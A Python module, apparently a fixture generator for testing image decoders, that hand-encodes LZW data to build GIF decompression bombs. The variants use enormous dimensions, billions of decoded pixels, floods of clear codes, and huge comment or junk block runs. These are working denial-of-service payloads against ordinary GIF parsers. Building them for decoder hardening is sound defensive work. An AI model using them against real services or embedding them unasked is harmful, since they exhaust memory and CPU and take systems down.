"""Bombs that are GIF."""

import struct

SIDE = 11585


def blocks(data):
    out = []
    for i in range(0, len(data), 255):
        part = data[i : i + 255]
        out.append(bytes([len(part)]) + part)
    return b"".join(out) + b"\0"


def file(screen, frame, data, flags=0, before=b""):
    out = b"GIF89a" + struct.pack("<HHBBB", *screen, 0xF7, 0, 0) + bytes(range(256)) * 3 + before
    return out + b"," + struct.pack("<HHHHB", *frame, flags) + b"\x08" + data + b";"


def zeros(n):
    """Codes n zeros: strings that become longer by one, 3,838 of them, then a new table."""
    out, acc, have = bytearray(), 0, 0

    def put(code, width):
        nonlocal acc, have
        acc |= code << have
        have += width
        while have >= 8:
            out.append(acc & 255)
            acc >>= 8
            have -= 8

    written = 0
    while written < n:
        put(256, 12 if written else 9)
        put(0, 9)
        written += 1
        width, size = 9, 2
        for code in range(258, 4095):
            put(code, width)
            if code + 1 == 1 << width and width < 12:
                width += 1
            written, size = written + size, size + 1
            if written >= n:
                break
    put(257, 12)
    out.append(acc & 255)
    return bytes(out)


def gif_zeros():
    return file((SIDE, SIDE), (0, 0, SIDE, SIDE), blocks(zeros(SIDE * SIDE)))


def gif_interlaced():
    return file((SIDE, SIDE), (0, 0, SIDE, SIDE), blocks(zeros(SIDE * SIDE)), 0x40)


def gif_large_screen():
    return file((65535, 65535), (0, 0, 1, 1), blocks(zeros(1)))


def gif_large_frame():
    return file((1, 1), (65535, 65535, 65535, 65535), blocks(zeros(1)))


def gif_screen_within():
    return file((SIDE, SIDE), (0, 0, 1, 1), blocks(zeros(1)))


def gif_surplus():
    return file((10, 10), (0, 0, 10, 10), blocks(zeros(1 << 30)))


def gif_clear_codes():
    """One hundred million codes that clear the table, of nine bits."""
    period = 0
    for i in range(8):
        period |= 256 << 9 * i
    return file((SIDE, SIDE), (0, 0, SIDE, SIDE), blocks(period.to_bytes(9, "little") * 11_000_000))


def gif_extensions():
    return file((10, 10), (0, 0, 10, 10), blocks(zeros(100)), before=b"!\xfe" + b"\x01x" * 50_000_000 + b"\0")


def gif_unknown_blocks():
    return file((10, 10), (0, 0, 10, 10), blocks(zeros(100)), before=b"\x01" * 100_000_000)


def gif_small_blocks():
    """Data in blocks of one byte."""
    data = zeros(SIDE * SIDE)
    return file((SIDE, SIDE), (0, 0, SIDE, SIDE), b"".join(b"\x01" + data[i : i + 1] for i in range(len(data))) + b"\0")
